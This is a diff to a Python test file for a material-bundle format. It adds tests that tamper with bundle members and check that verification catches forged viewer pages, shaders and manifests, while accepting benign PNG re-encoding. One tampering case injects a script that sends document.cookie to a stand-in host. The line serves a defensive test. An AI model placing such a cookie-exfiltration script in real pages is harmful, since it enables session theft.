@@ -28,7 +28,17 @@ from engine.errors import InputError, OutputError
 from engine.factor.maps import DirectionMap
 from engine.factor.separable_factors import SeparableFactors
 from engine.files import archive, atomic, manifest
-from engine.files.bundle import BRDF, MANIFEST, MEMBERS, PREVIEW, open_bundle, save_bundle, verify_bundle
+from engine.files.bundle import (
+    BRDF,
+    MANIFEST,
+    MEMBERS,
+    PREVIEW,
+    SHADER,
+    VIEWER,
+    open_bundle,
+    save_bundle,
+    verify_bundle,
+)
 from engine.files.manifest import TABLE
 from engine.health import Finding, Health, Verdict
 from engine.material import Material
@@ -315,6 +325,52 @@ def test_fault_9_forged_manifest(tmp_path: Path, change: Callable[[dict[str, Any
     if "material.glb" in str(change.__code__.co_consts):
         return
     assert not verify_bundle(path).ok
+
+
+@pytest.mark.parametrize("version", ["", "0.0.9"], ids=["this version", "another version"])
+@pytest.mark.parametrize(
+    ("member", "old", "new"),
+    [
+        (VIEWER, b"</body>", b"<script>fetch('https://example.org/' + document.cookie)</script></body>"),
+        (VIEWER, b'"size": [7, 5]', b'"size": [8, 5]'),
+        (VIEWER, b"iVBORw0KGgo", b"iVBORw0KGgp"),
+        (SHADER, b"float", b"double"),
+        (BRDF, b'"unit": "1/sr', b'"unit": "1/cd'),
+    ],
+)
+def test_a_page_or_shader_of_somebody_else_is_named(
+    tmp_path: Path, member: str, old: bytes, new: bytes, version: str
+) -> None:
+    """Spec 15, S5: fingerprints that were worked out again do not make a page sound."""
+    path = save(tmp_path / "woven.lightarc", make_material())
+    content = members_of(path)[member]
+    assert old in content
+
+    def change(value: dict[str, Any]) -> None:
+        if version:
+            value["software"]["lightarc"] = version
+
+    forge(path, change, **{member.replace(".", "__"): content.replace(old, new, 1)})
+    (problem,) = verify_bundle(path).problems
+    assert problem.startswith(f"{member} ")
+    assert (version or "not what this program makes") in problem
+
+
+def test_a_page_may_differ_in_last_digits_and_in_how_its_pictures_are_packed(tmp_path: Path) -> None:
+    import base64
+    import re
+
+    import cv2
+
+    path = save(tmp_path / "woven.lightarc", make_material())
+    page = members_of(path)[VIEWER].decode()
+    picture = re.findall(r"iVBOR[A-Za-z0-9+/=]*", page)[0]
+    pixels = cv2.imdecode(np.frombuffer(base64.b64decode(picture), np.uint8), cv2.IMREAD_UNCHANGED)
+    packed = cv2.imencode(".png", pixels, [cv2.IMWRITE_PNG_COMPRESSION, 0])[1].tobytes()
+    other = page.replace(picture, base64.b64encode(packed).decode(), 1).replace("0.3333333333", "0.3333333334", 1)
+    assert other != page
+    forge(path, lambda value: None, **{"viewer/index__html": other.encode()})
+    assert verify_bundle(path).problems == ()
 
 
 def test_fault_5_truncated_bundles(tmp_path: Path) -> None:
